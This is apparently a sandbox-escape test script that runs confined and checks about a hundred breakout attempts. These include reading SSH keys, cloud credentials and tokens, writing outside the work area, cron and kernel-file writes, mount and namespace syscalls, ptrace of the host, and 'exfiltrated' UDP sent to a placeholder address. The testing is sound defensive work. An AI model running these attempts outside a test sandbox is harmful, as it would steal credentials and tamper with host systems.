"""Ways out of a confinement, tried from inside: prints for each whether it led out. Runs confined, as a script.

Each function returns what it got hold of; None, False or an OSError means that it was stopped.
"""

import contextlib
import ctypes
import fcntl
import json
import os
import socket
import struct
import subprocess
import sys
import time
from pathlib import Path

W = json.loads(sys.argv[1])
HOME, WORK, OUTSIDE = Path(W["home"]), Path(W["work"]), Path(W["outside"])
ARM = os.uname().machine == "aarch64"
LIBC = ctypes.CDLL(None, use_errno=True)


def call(x86, arm, *arguments):
    given = [ctypes.c_long(one) if isinstance(one, int) else one for one in arguments]
    found = LIBC.syscall(ctypes.c_long(arm if ARM else x86), *given)
    if found < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return True


def secret(path):
    return "SECRET" in Path(path).read_text(errors="replace")


def writes(path):
    with open(path, "a") as file:
        file.write("x")
    return True


def connects(family, address, kind=socket.SOCK_STREAM):
    with socket.socket(family, kind) as one:
        one.settimeout(3)
        one.connect(address)
        return True


ATTACKS = {}


def attack(function):
    ATTACKS[function.__name__] = function
    return function


# --- files ---


@attack
def write_outside():
    return writes(OUTSIDE / "file")


@attack
def write_new_outside():
    return writes(OUTSIDE / "new")


@attack
def write_through_symlink():
    return writes(WORK / "way-out/file")


@attack
def write_shell_start_file():
    return writes(HOME / ".bashrc")


@attack
def write_program_on_the_path():
    return writes(HOME / ".local/bin/ls")


@attack
def symlink_swap():
    """A link that changes its target all the time, written through: what is checked must be what is opened."""
    import threading

    harmless, link = WORK / "harmless", WORK / "swapped"
    harmless.write_text("")
    stop = threading.Event()

    def swap():
        number = 0
        while not stop.is_set():
            number += 1
            new = f"{WORK}/swap-{number % 3}"
            with contextlib.suppress(OSError):
                os.symlink(OUTSIDE / "file" if number % 2 else harmless, new)
                os.rename(new, link)

    threading.Thread(target=swap, daemon=True).start()
    for _ in range(300):
        with contextlib.suppress(OSError):
            writes(link)
    stop.set()
    return "x" in (OUTSIDE / "file").read_text()


@attack
def hard_link_to_outside():
    os.link(OUTSIDE / "hard", WORK / "hard")
    return writes(WORK / "hard")


@attack
def truncate_outside():
    os.truncate(OUTSIDE / "file", 0)
    return True


@attack
def open_for_reading_and_truncate():
    os.close(os.open(OUTSIDE / "file", os.O_RDONLY | os.O_TRUNC))
    return (OUTSIDE / "file").stat().st_size == 0


@attack
def remove_outside():
    os.unlink(OUTSIDE / "hard")
    return True


@attack
def rename_outside():
    os.rename(OUTSIDE / "hard", WORK / "taken")
    return True


@attack
def chmod_outside():
    os.chmod(OUTSIDE / "file", 0o777)
    return True


@attack
def access_list_outside():
    """An access list lets others read what the mode does not."""
    users = ((1, 6, 0xFFFFFFFF), (2, 4, 12345), (4, 4, 0xFFFFFFFF), (16, 4, 0xFFFFFFFF), (32, 4, 0xFFFFFFFF))
    acl = struct.pack("<I", 2) + b"".join(struct.pack("<HHI", *one) for one in users)
    os.setxattr(OUTSIDE / "file", "system.posix_acl_access", acl)
    return True


@attack
def attribute_outside():
    found = os.open(OUTSIDE / "file", os.O_RDONLY)
    os.setxattr(found, "user.planted", b"x")
    return True


@attack
def flags_outside():
    """FS_IOC_SETFLAGS needs no right to write: no dumps of this file."""
    found = os.open(OUTSIDE / "file", os.O_RDONLY)
    flags = struct.unpack("l", fcntl.ioctl(found, 0x80086601, bytes(8)))[0]
    fcntl.ioctl(found, 0x40086602, struct.pack("l", flags ^ 0x40))
    return True


@attack
def fchmod_outside():
    with open(OUTSIDE / "file") as file:
        os.fchmod(file.fileno(), 0o777)
    return True


@attack
def openat2_outside():
    how = struct.pack("=QQQ", os.O_WRONLY | os.O_CREAT, 0o600, 0)
    return call(437, 437, -100, os.fsencode(OUTSIDE / "by-openat2"), how, len(how))


@attack
def io_uring():
    return call(425, 425, 8, ctypes.create_string_buffer(240))


@attack
def git_hook():
    return writes(WORK / ".git/hooks/pre-commit")


@attack
def git_config():
    return writes(WORK / ".git/config")


@attack
def move_git():
    os.rename(WORK / ".git", WORK / ".git2")
    return True


@attack
def git_under_another_case():
    (WORK / ".GIT").mkdir()
    return (WORK / ".git").samefile(WORK / ".GIT")


@attack
def replace_git_by_exchange():
    (WORK / "fake").mkdir(exist_ok=True)
    return call(316, 276, -100, os.fsencode(WORK / "fake"), -100, os.fsencode(WORK / ".git"), 2)


@attack
def read_ssh_key():
    return secret(HOME / ".ssh/id_rsa")


@attack
def read_cloud_credentials():
    return secret(HOME / ".aws/credentials")


@attack
def read_netrc():
    return secret(HOME / ".netrc")


@attack
def read_gh_token():
    return secret(HOME / ".config/gh/hosts.yml")


@attack
def read_hub_token():
    return secret(HOME / ".cache/huggingface/token")


@attack
def read_shell_history():
    return secret(HOME / ".bash_history")


@attack
def read_state():
    return secret(Path(W["state"]) / "token")


@attack
def read_password_file():
    return ":" in Path("/etc/shadow").read_text()


@attack
def read_disk():
    for name in os.listdir("/dev"):
        path = Path("/dev") / name
        if path.is_block_device():
            with open(path, "rb") as file:
                return bool(file.read(1))
    return None


@attack
def dev_mem():
    return bool(os.open("/dev/mem", os.O_RDONLY))


@attack
def cron():
    for place in ("/var/spool/cron/crontabs", "/etc/cron.d", "/var/spool/cron"):
        if os.path.isdir(place):
            return writes(f"{place}/mlwb-attack")
    return None


@attack
def core_pattern():
    return writes("/proc/sys/kernel/core_pattern")


@attack
def sysrq():
    os.close(os.open("/proc/sysrq-trigger", os.O_WRONLY))
    return True


@attack
def release_agent():
    for folder, _, files in os.walk("/sys/fs/cgroup"):
        for name in ("release_agent", "cgroup.procs"):
            if name in files:
                os.close(os.open(f"{folder}/{name}", os.O_WRONLY))
                return True
    return None


@attack
def uevent_helper():
    os.close(os.open("/sys/kernel/uevent_helper", os.O_WRONLY))
    return True


@attack
def open_by_handle():
    handle = struct.pack("=Ii8s", 8, 1, b"\2" + b"\0" * 7)
    descriptor = os.open(WORK, os.O_RDONLY)
    return call(304, 265, descriptor, handle, os.O_RDONLY)


# --- mounts, namespaces, the kernel ---


@attack
def remount():
    return call(165, 40, b"none", b"/", None, 0x20 | 0x1000, None)


@attack
def mount_over_git():
    return call(165, 40, os.fsencode(OUTSIDE), os.fsencode(WORK / ".git"), None, 0x1000, None)


@attack
def umount():
    return call(166, 39, os.fsencode(WORK), 2)


@attack
def new_mount_interface():
    return call(428, 428, -100, b"/", 1)


@attack
def unshare_user():
    return call(272, 97, 0x10000000)


@attack
def unshare_mount():
    return call(272, 97, 0x20000)


@attack
def clone_user():
    child = call_clone(0x10000000 | 17)
    return bool(child)


def call_clone(flags):
    number = 220 if ARM else 56
    found = LIBC.syscall(ctypes.c_long(number), ctypes.c_long(flags), None, None, None, None)
    if found == 0:
        os._exit(0)
    if found < 0:
        raise OSError(ctypes.get_errno(), "clone")
    os.waitpid(found, 0)
    return found


@attack
def clone3_user():
    arguments = struct.pack("=11Q", 0x10000000, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0)
    found = LIBC.syscall(ctypes.c_long(435), arguments, ctypes.c_long(len(arguments)))
    if found == 0:
        os._exit(0)
    if found < 0:
        raise OSError(ctypes.get_errno(), "clone3")
    return True


@attack
def chroot():
    os.chroot(WORK)
    return True


@attack
def join_namespaces_of_the_host():
    descriptor = os.open(f"/proc/{W['host']}/ns/mnt", os.O_RDONLY)
    return call(308, 268, descriptor, 0)


@attack
def bpf():
    return call(321, 280, 0, ctypes.create_string_buffer(64), 64)


@attack
def keyctl():
    return call(250, 219, 0, -3, 1)


@attack
def userfaultfd():
    return call(323, 282, 1)


@attack
def perf():
    return call(298, 241, ctypes.create_string_buffer(struct.pack("=II", 1, 128) + b"\0" * 120), 0, -1, -1, 0)


@attack
def load_module():
    return call(313, 273, os.open("/dev/null", os.O_RDONLY), b"", 0)


@attack
def mknod_disk():
    os.mknod(WORK / "disk", 0o60600, os.makedev(8, 0))
    return True


@attack
def gain_capabilities():
    effective = next(line for line in Path("/proc/self/status").read_text().splitlines() if "CapEff" in line)
    return int(effective.split()[1], 16) & ~(1 << 1)  # all but CAP_DAC_OVERRIDE, which no path rule heeds


@attack
def set_user_id():
    os.setresuid(12345, 12345, 12345)
    return True


# --- other processes ---


@attack
def environment_of_init():
    return bool(W["pid1"]) and W["pid1"] in Path("/proc/1/environ").read_text(errors="replace")


@attack
def environment_of_the_host():
    return b"HOME" in Path(f"/proc/{W['host']}/environ").read_bytes()


@attack
def environment_of_a_neighbour():
    return secret(f"/proc/{W['victim']}/environ")


@attack
def environment_of_the_parent():
    return "SECRET" in Path(f"/proc/{os.getppid()}/environ").read_text(errors="replace")


@attack
def root_of_the_host():
    return secret(f"/proc/{W['host']}/root{W['state']}/token")


@attack
def root_of_ourselves():
    return secret(f"/proc/self/root{W['state']}/token")


@attack
def memory_of_the_host():
    return bool(os.open(f"/proc/{W['host']}/mem", os.O_RDWR))


@attack
def descriptors_of_the_host():
    return bool(os.readlink(f"/proc/{W['host']}/fd/0"))


@attack
def take_a_descriptor_of_the_host():
    process = os.pidfd_open(W["host"])
    if f"Pid:\t{W['host']}\n" not in Path(f"/proc/self/fdinfo/{process}").read_text():
        return None
    return call(438, 438, process, 0, 0)


@attack
def trace_the_host():
    found = LIBC.ptrace(16, W["host"], None, None) if _is(W["host"], "python") else -1
    return found == 0


@attack
def trace_a_neighbour():
    return LIBC.ptrace(16, W["victim"], None, None) == 0 if _is(W["victim"], "sleep") else None


def _is(pid, name):
    try:
        return name in Path(f"/proc/{pid}/cmdline").read_text()
    except OSError:
        return False


@attack
def kill_a_neighbour():
    os.kill(W["victim"], 0)
    return _is(W["victim"], "sleep")


@attack
def signal_a_neighbours_group():
    return _is(W["victim"], "sleep") and os.killpg(os.getpgid(W["victim"]), 0) is None


@attack
def signal_through_a_descriptor():
    import signal

    process = os.pidfd_open(W["victim"])
    signal.pidfd_send_signal(process, 0)
    return _is(W["victim"], "sleep")


@attack
def slow_the_host():
    """Priorities cannot be raised again: what is slowed stays slow. In namespaces a number is somebody else's."""
    if not _is(W["host"], "confining"):
        return False
    os.setpriority(os.PRIO_PROCESS, W["host"], 1)
    return True


@attack
def slow_all_of_the_user():
    before = [os.getpriority(os.PRIO_PROCESS, 0)]
    os.setpriority(os.PRIO_USER, os.getuid(), 1)
    return os.path.exists(f"/proc/{W['victim']}") and os.getpriority(os.PRIO_PROCESS, W["victim"]) > before[0]


@attack
def bind_the_neighbour_to_a_processor():
    if not _is(W["victim"], "sleep"):
        return False
    os.sched_setaffinity(W["victim"], {min(os.sched_getaffinity(0))})
    return True


@attack
def schedule_the_neighbour_last():
    if not _is(W["victim"], "sleep"):
        return False
    os.sched_setscheduler(W["victim"], os.SCHED_IDLE, os.sched_param(0))
    return True


@attack
def inherited_descriptors():
    """Whatever was open outside and came along: namespaces, sockets, files."""
    script = "import os; print(*[fd for fd in map(int, os.listdir('/proc/self/fd')) if fd > 3])"
    done = subprocess.run([sys.executable, "-c", script], close_fds=False, capture_output=True, text=True)
    return bool(done.stdout.split())


@attack
def limit_the_host():
    import resource

    before = resource.prlimit(W["victim"], resource.RLIMIT_CORE)
    resource.prlimit(W["victim"], resource.RLIMIT_CORE, before)
    return _is(W["victim"], "sleep")


@attack
def own_a_file_for_signals():
    one, other = socket.socketpair()
    with one, other:
        fcntl.fcntl(one, fcntl.F_SETOWN, W["victim"])
        return _is(W["victim"], "sleep") and fcntl.fcntl(one, fcntl.F_GETOWN) == W["victim"]


@attack
def own_a_socket_for_signals():
    """FIOSETOWN and SIOCSPGRP are F_SETOWN by other names."""
    for request in (0x8901, 0x8902):
        with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as one:
            fcntl.ioctl(one, request, struct.pack("i", W["victim"]))
            return _is(W["victim"], "sleep")
    return False


@attack
def give_a_file_outside_to_a_group():
    """An owner may choose among the groups of its own; and any change, were it to what is, is one."""
    before = os.stat(OUTSIDE / "file").st_ctime_ns
    for group in {os.getgid(), *os.getgroups()}:
        with contextlib.suppress(OSError):
            os.chown(OUTSIDE / "file", -1, group)
    return os.stat(OUTSIDE / "file").st_ctime_ns != before


@attack
def shed_the_mark():
    import resource

    resource.setrlimit(10, (12345, resource.getrlimit(10)[1]))
    return True


@attack
def type_into_a_terminal():
    import pty

    terminal = pty.openpty()[1]
    fcntl.ioctl(terminal, 0x5412, b"x")
    return True


@attack
def type_with_high_bits():
    import pty

    terminal = pty.openpty()[1]
    return call(16, 29, terminal, 0x5412 | 1 << 32, b"x")


def terminal_of_another(how):
    """What is typed and what is seen there: a question answered, another one drawn."""
    found = os.open(W["terminal"], how | os.O_NOCTTY | os.O_NONBLOCK)
    return os.fstat(found).st_dev == W["terminals"]  # and not one of that name within


@attack
def read_the_terminal_of_another():
    return terminal_of_another(os.O_RDONLY)


@attack
def write_to_the_terminal_of_another():
    return terminal_of_another(os.O_RDWR)


@attack
def write_to_a_terminal_beside_one_of_our_own():
    import pty

    pty.openpty()
    return terminal_of_another(os.O_WRONLY)


@attack
def verity():
    with open(OUTSIDE / "file") as file:
        fcntl.ioctl(file, 0x40806685, bytearray(128))
    return True


# --- sockets and the network ---


@attack
def approve_itself():
    return connects(socket.AF_UNIX, W["control"])


@attack
def approve_itself_by_a_link():
    os.symlink(W["control"], WORK / "control-link")
    return connects(socket.AF_UNIX, str(WORK / "control-link"))


@attack
def agent_in_the_home():
    return connects(socket.AF_UNIX, W["agent"])


@attack
def docker_socket():
    return any(connects(socket.AF_UNIX, path) for path in ("/run/docker.sock",) if os.path.exists(path))


@attack
def abstract_socket():
    return connects(socket.AF_UNIX, "\0" + W["abstract"])


@attack
def service_on_loopback():
    return connects(socket.AF_INET, ("127.0.0.1", W["tcp"]))


@attack
def service_on_loopback_mapped():
    return connects(socket.AF_INET6, ("::ffff:127.0.0.1", W["tcp"]))


@attack
def address_swap():
    """The port in the address changes all the time: what is checked must be what is connected to."""
    import threading

    server = socket.create_server(("127.0.0.1", 0))
    ours = server.getsockname()[1]
    address = ctypes.create_string_buffer(struct.pack("=H", 2) + struct.pack("!H4s8x", ours, b"\x7f\0\0\1"))
    stop = threading.Event()

    def swap():
        while not stop.is_set():
            address[2:4] = struct.pack("!H", W["tcp"])
            address[2:4] = struct.pack("!H", ours)
            time.sleep(0)  # else nobody else here gets to run

    threading.Thread(target=swap, daemon=True).start()
    reached = False
    for _ in range(60):
        with socket.socket() as one:
            if LIBC.connect(one.fileno(), address, 16) == 0:
                reached |= one.getpeername()[1] == W["tcp"]
    stop.set()
    return reached


@attack
def tcp_out():
    with socket.socket() as one:
        one.setblocking(False)
        try:
            one.connect(("192.0.2.77", 443))
        except BlockingIOError:
            return True
        return True


@attack
def tcp_fast_open():
    with socket.socket() as one:
        one.setblocking(False)
        try:
            one.sendto(b"x", 0x20000000, ("192.0.2.77", 443))
        except BlockingIOError:
            return True
        return True


@attack
def udp_out():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        return bool(one.sendto(b"exfiltrated", ("192.0.2.77", 53)))


@attack
def udp_to_loopback():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.sendto(b"exfiltrated", ("127.0.0.1", W["udp"]))
    return  # whether it came is seen outside


@attack
def name_lookup():
    return bool(socket.getaddrinfo("example.org", 443))


@attack
def raw_socket():
    return bool(socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))


@attack
def packet_socket():
    return bool(socket.socket(17, socket.SOCK_RAW, 0))


@attack
def vsock():
    return bool(socket.socket(40, socket.SOCK_STREAM))


@attack
def kernel_crypto_socket():
    return bool(socket.socket(38, socket.SOCK_SEQPACKET))


@attack
def unbind_from_loopback():
    with socket.socket() as one:
        one.setsockopt(socket.SOL_SOCKET, 25, b"\0")
        one.setblocking(False)
        try:
            one.connect(("192.0.2.77", 443))
        except BlockingIOError:
            return True
        return True


@attack
def service_manager():
    done = subprocess.run(["systemd-run", "--user", "true"], capture_output=True)
    return done.returncode == 0


@attack
def at_job():
    done = subprocess.run(["at", "now"], input=b"true\n", capture_output=True)
    return done.returncode == 0


def main():
    chosen = sys.argv[2:] or list(ATTACKS)
    found = {}
    for name in chosen:
        try:
            found[name] = bool(ATTACKS[name]())
        except (OSError, ImportError, ValueError):
            found[name] = False
    print("RESULT" + json.dumps(found))


if __name__ == "__main__":
    main()
